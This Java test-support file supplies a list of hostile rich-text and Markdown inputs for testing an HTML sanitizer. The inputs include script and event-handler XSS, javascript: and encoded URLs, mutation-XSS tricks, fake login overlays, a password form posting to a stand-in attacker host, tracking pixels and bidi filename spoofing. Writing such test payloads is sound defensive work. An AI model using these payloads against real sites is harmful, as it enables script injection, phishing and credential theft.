package se.brobygge.support;

import java.util.ArrayList;
import java.util.List;

/**
 * Hostile rich text: script, event handlers, {@code javascript:}/{@code data:}/entity-encoded
 * addresses, {@code <style>} and {@code style=}, {@code <base>}, forms, {@code <details ontoggle>},
 * mutation XSS through {@code <math>}, {@code <svg>} and {@code <noscript>}, custom elements,
 * overlays, outside images and bidirectional overrides. A payload that runs sets
 * {@code window.__pwned} or opens a dialog.
 */
public final class RichTextPayloads {

    private RichTextPayloads() {}

    /** The overlay from the report: a fake notice over the whole page, a click leaves the site. */
    public static final String OVERLAY = "<a href=\"https://evil.example/login\" style=\"position:fixed;inset:0;"
            + "z-index:2147483647;background:#fff\">Din session har gått ut. Logga in igen.</a>";

    public static final List<String> PAYLOADS = List.of(
            // script and handlers
            "<script>window.__pwned=1</script>",
            "<img src=x onerror=\"window.__pwned=2\">",
            "<svg onload=\"window.__pwned=3\">",
            "<body onload=window.__pwned=4>",
            "<details open ontoggle=\"window.__pwned=5\">detaljer</details>",
            "<input autofocus onfocus=\"window.__pwned=6\">",
            "<video><source onerror=\"window.__pwned=7\"></video>",
            "<audio src=x onerror=window.__pwned=8>",
            "<marquee onstart=window.__pwned=9>m</marquee>",
            "<select autofocus onfocus=window.__pwned=10></select>",
            "<textarea autofocus onfocus=window.__pwned=11></textarea>",
            "<svg><animate onbegin=window.__pwned=12 attributeName=x dur=1s>",
            "<img src=x onerror=&#x77;indow.__pwned=13>",
            "<img src=x:alert(14) onerror=eval(src)>",
            "<p onclick=\"window.__pwned=15\">klicka</p>",
            "<scr<script>ipt>window.__pwned=16</scr</script>ipt>",
            "<<b>script>window.__pwned=17<</b>/script>",
            "<!--<script>window.__pwned=18</script>-->",
            "<![CDATA[<script>window.__pwned=19</script>]]>",
            "</p><script>window.__pwned=20</script><p>",
            "a\u0000<script>window.__pwned=21</script>",
            "{{constructor.constructor('window.__pwned=22')()}}",
            "<isindex type=image src=1 onerror=window.__pwned=23>",
            "<keygen autofocus onfocus=window.__pwned=24>",
            // addresses
            "<a href=\"javascript:window.__pwned=25\">länk</a>",
            "[länk](javascript:window.__pwned=26)",
            "[länk](JaVaScRiPt:window.__pwned=27)",
            "[länk](&#106;avascript:window.__pwned=28)",
            "[länk](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:window.__pwned=29)",
            "[länk](jav&#x09;ascript:window.__pwned=30)",
            "<a href=\"jav&#x09;ascript:window.__pwned=31\">x</a>",
            "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
                    + "&#0000058window.__pwned=32\">x</a>",
            "[länk](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0zMzwvc2NyaXB0Pg==)",
            "<a href=\"data:text/html,<script>window.__pwned=34</script>\">d</a>",
            "[länk](vbscript:msgbox(35))",
            "<javascript:window.__pwned=36>",
            "[ref]: javascript:window.__pwned=37\n\n[referens][ref]",
            "[länk](  javascript:window.__pwned=38  )",
            "<a href=\"//evil.example/\">protokollrelativ</a>",
            "<a href=\"https://brohamn.example/\" target=\"_blank\">ny flik</a>",
            "<iframe src=\"javascript:window.parent.__pwned=41\"></iframe>",
            "<iframe srcdoc=\"<script>parent.__pwned=42</script>\"></iframe>",
            "<object data=\"javascript:window.__pwned=43\"></object>",
            "<embed src=\"javascript:window.__pwned=44\">",
            "<object data=\"data:text/html,<script>parent.__pwned=45</script>\"></object>",
            // styles, base, meta and forms
            "<style>body{background:red}</style>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<div style=\"background:url(javascript:window.__pwned=48)\">d</div>",
            "<link rel=stylesheet href=\"https://evil.example/x.css\">",
            "<base href=\"https://evil.example/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
            "<form action=\"https://evil.example/steal\"><input name=pw type=password><button>Logga in</button></form>",
            "<button formaction=\"javascript:window.__pwned=53\">knapp</button>",
            "<form id=f></form><button form=f formaction=javascript:window.__pwned=54>b</button>",
            "<label>Lösenord <input type=password></label>",
            // mutation XSS
            "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=56>",
            "<svg><style><img src=x onerror=window.__pwned=57></style></svg>",
            "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=58>\">",
            "<math><mi xlink:href=\"javascript:window.__pwned=59\">m</mi></math>",
            "<svg><a xlink:href=\"javascript:window.__pwned=60\"><text x=0 y=20>s</text></a></svg>",
            "<math href=\"javascript:window.__pwned=61\">klick</math>",
            "<template><img src=x onerror=window.__pwned=62></template>",
            "<svg><foreignObject><div style=\"position:fixed;inset:0\">x</div></foreignObject></svg>",
            // custom elements and page furniture
            "<vaadin-button onclick=\"window.__pwned=64\">vb</vaadin-button>",
            "<vaadin-dialog opened>falsk dialog</vaadin-dialog>",
            "<x-evil>anpassat element</x-evil>",
            "<dialog open>Din session har gått ut</dialog>",
            "<table><tr><td>tabell</td></tr></table>",
            "<h1 style=\"font-size:200px\">Stor rubrik</h1>",
            // overlays
            OVERLAY,
            "<div style=\"position:fixed;inset:0;z-index:2147483647;background:#fff\">Din session har gått ut.</div>",
            "<p style=\"position:absolute;top:0;left:0;width:100vw;height:100vh\">täcker</p>",
            "<span style=\"display:block;position:fixed;top:0;left:0;right:0;bottom:0;background:white\">lager</span>",
            // outside images
            "![bild](https://evil.example/pixel.png)",
            "![bild](x\" onerror=\"window.__pwned=75)",
            "<img src=\"https://evil.example/pixel.png\">",
            // bidirectional overrides
            "\u202Egnp.exe",
            "abc\u202E<script>window.__pwned=79</script>",
            "\u202Dvänster\u202C",
            "<bdo dir=rtl>omvänd</bdo>");

    /** Markdown that must come through as formatting: a heading, emphasis, a list and safe links. */
    public static final String FORMATTING = "## Om kvällen\n\nVi ses **på biblioteket** och pratar *svenska*.\n\n"
            + "- fika\n- samtal\n\n[Kommunens sida](https://brohamn.example/) eller "
            + "[mejla oss](mailto:info@brohamn.example)";

    /** All payloads, each in a paragraph of its own. */
    public static String all() {
        return String.join("\n\n", PAYLOADS);
    }

    /** The payloads in texts of at most {@code max} characters, each payload in its own paragraph. */
    public static List<String> inTextsOf(int max) {
        List<String> texts = new ArrayList<>();
        StringBuilder text = new StringBuilder();
        for (String p : PAYLOADS) {
            if (!text.isEmpty() && text.length() + p.length() + 2 > max) {
                texts.add(text.toString());
                text.setLength(0);
            }
            text.append(text.isEmpty() ? "" : "\n\n").append(p);
        }
        texts.add(text.toString());
        return texts;
    }
}
